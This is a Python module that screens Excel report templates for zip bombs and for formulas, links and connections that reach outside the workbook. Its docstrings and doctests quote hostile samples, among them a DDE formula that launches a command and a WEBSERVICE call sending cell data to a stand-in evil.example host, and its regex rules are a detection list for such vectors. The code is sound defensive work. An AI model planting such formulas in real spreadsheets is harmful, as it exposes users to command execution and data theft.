"""What a report template may not bring into a report: anything that reaches outside the workbook, or a zip bomb.

A template is a file someone else may have made. Excel follows, on opening, what a workbook points outside
itself: links to other workbooks (``[1]Sheet1!$A$1``, ``'\\\\server\\share\\[book.xlsx]Sheet1'!A1``), data
connections and web queries, web functions (``WEBSERVICE``, ``FILTERXML``, ``IMAGE``, ``RTD``), DDE
(``=cmd|' /C calc'!A0``) and macro calls (``CALL``, ``REGISTER``, ``EXEC``). :func:`check_template_package`
reads the template's package (bounded: :data:`MAX_TEMPLATE_BYTES` on disk, :data:`MAX_EXPANDED_BYTES`
unpacked, :data:`MAX_PARTS` parts) and refuses a template holding any of these, naming each one found, so the
report never carries them.
"""

from __future__ import annotations

import io
import re
import zipfile
from xml.sax.saxutils import unescape

from clv_xl.errors import TemplateError

__all__ = [
    "MAX_TEMPLATE_BYTES",
    "MAX_EXPANDED_BYTES",
    "MAX_PARTS",
    "outside_references",
    "check_template_package",
]

#: Largest template file accepted (bytes). The default template is about 20 kB.
MAX_TEMPLATE_BYTES = 20 * 1024 * 1024
#: Largest total of the template's unpacked parts (bytes), as its zip directory declares them.
MAX_EXPANDED_BYTES = 100 * 1024 * 1024
#: Most parts a template package may hold.
MAX_PARTS = 2_000

_STRING = re.compile(r'"(?:[^"]|"")*"')
#: What, in a formula outside its quoted text, reaches outside the workbook: (pattern, description).
_FORMULA_RULES: tuple[tuple[re.Pattern[str], str], ...] = (
    (re.compile(r"\b(WEBSERVICE|FILTERXML|IMAGE|RTD|CALL|REGISTER(?:\.ID)?|EXEC)\s*\(", re.I), "calls {0}"),
    (re.compile(r"(?:^|[^A-Za-z0-9_.\]])'?(\[\d+\])"), "refers to another workbook ({0})"),
    (re.compile(r"(\\\\[^\\'!\s]+)"), "refers to a network path ({0})"),
    (re.compile(r"([A-Za-z0-9_.]+\|)"), "holds a DDE link ({0})"),
    (re.compile(r"\b((?:https?|ftp|file)://[^\s'\"!)]*)", re.I), "holds an address ({0})"),
)
_FORMULA_ELEMENT = re.compile(r"<(?:\w+:)?f\b[^>]*>(.*?)</(?:\w+:)?f>", re.S)
_DEFINED_NAME = re.compile(r"<(?:\w+:)?definedName\b[^>]*\bname=\"([^\"]*)\"[^>]*>(.*?)</(?:\w+:)?definedName>", re.S)
_EXTERNAL_REL = re.compile(r"<Relationship\b[^>]*>", re.S)
_OUTSIDE_PARTS: tuple[tuple[str, str], ...] = (
    ("xl/externalLinks/", "a link to another workbook"),
    ("xl/connections.xml", "data connections"),
    ("xl/queryTables/", "web or database queries"),
)


def outside_references(formula: str) -> list[str]:
    """What in one formula (or defined name) reaches outside the workbook, in words.

    Parameters
    ----------
    formula : str
        The formula, with or without its ``=``.

    Returns
    -------
    list of str
        One description per finding; empty for a self-contained formula.

    Examples
    --------
    >>> outside_references('WEBSERVICE("https://evil.example/?"&A1)')
    ['calls WEBSERVICE']
    >>> outside_references("[1]Sheet1!$A$1+'\\\\\\\\srv\\\\share\\\\[x.xlsx]S'!A1")
    ['refers to another workbook ([1])', 'refers to a network path (\\\\\\\\srv)']
    >>> outside_references("cmd|' /C calc'!A0")
    ['holds a DDE link (cmd|)']
    >>> outside_references('SUM(tblOrders[amount])&" [1] WEBSERVICE("')
    []
    """
    code = _STRING.sub('""', formula)
    found = []
    for pattern, words in _FORMULA_RULES:
        match = pattern.search(code)
        if match:
            found.append(words.format(match.group(1).upper() if "calls" in words else match.group(1)))
    return found


def _xml_text(data: bytes) -> str:
    return data.decode("utf-8", errors="replace")


def check_template_package(data: bytes, name: str = "template") -> None:
    """Refuse a template package that is too big, expands too far, or reaches outside the workbook.

    Parameters
    ----------
    data : bytes
        The ``.xlsx`` file's bytes.
    name : str, default "template"
        How to call the template in messages.

    Raises
    ------
    TemplateError
        Naming the limit passed, or listing what reaches outside (at most five, then how many more).

    Examples
    --------
    >>> from importlib.resources import files
    >>> check_template_package((files("clv_xl.templates") / "clv_report.xlsx").read_bytes(), "default")
    """
    if len(data) > MAX_TEMPLATE_BYTES:
        raise TemplateError(f"{name} is larger than {MAX_TEMPLATE_BYTES // 2**20} MB; a template holds no data")
    try:
        package = zipfile.ZipFile(io.BytesIO(data))
        parts = package.infolist()
    except (zipfile.BadZipFile, OSError, ValueError) as exc:
        raise TemplateError(f"{name} is not an .xlsx workbook ({exc})") from None
    if len(parts) > MAX_PARTS:
        raise TemplateError(f"{name} holds {len(parts):,} parts; a workbook template needs far fewer")
    expanded = sum(part.file_size for part in parts)
    if expanded > MAX_EXPANDED_BYTES:
        raise TemplateError(
            f"{name} unpacks to {expanded / 2**20:,.0f} MB (over {MAX_EXPANDED_BYTES // 2**20} MB); "
            "a template holds no data"
        )
    findings: list[str] = []
    for part in parts:
        for prefix, words in _OUTSIDE_PARTS:
            if part.filename.startswith(prefix):
                findings.append(f"{words} ({part.filename})")
        if not part.filename.endswith((".xml", ".rels")):
            continue
        text = _xml_text(package.read(part))
        if part.filename.endswith(".rels"):
            for rel in _EXTERNAL_REL.findall(text):
                if 'TargetMode="External"' in rel and "/hyperlink\"" not in rel:
                    target = re.search(r'Target="([^"]*)"', rel)
                    findings.append(f"an external link to {unescape(target.group(1)) if target else '?'!r}")
            continue
        for label, formula in _DEFINED_NAME.findall(text):
            findings += [f"defined name {label!r} {what}" for what in outside_references(unescape(formula))]
        for formula in _FORMULA_ELEMENT.findall(text):
            findings += [f"a formula in {part.filename} {what}" for what in outside_references(unescape(formula))]
    if findings:
        unique = list(dict.fromkeys(findings))
        listed = "; ".join(unique[:5]) + (f"; and {len(unique) - 5} more" if len(unique) > 5 else "")
        raise TemplateError(
            f"{name} reaches outside the workbook, which Excel would follow on opening the report: {listed}. "
            "Remove these from the template"
        )
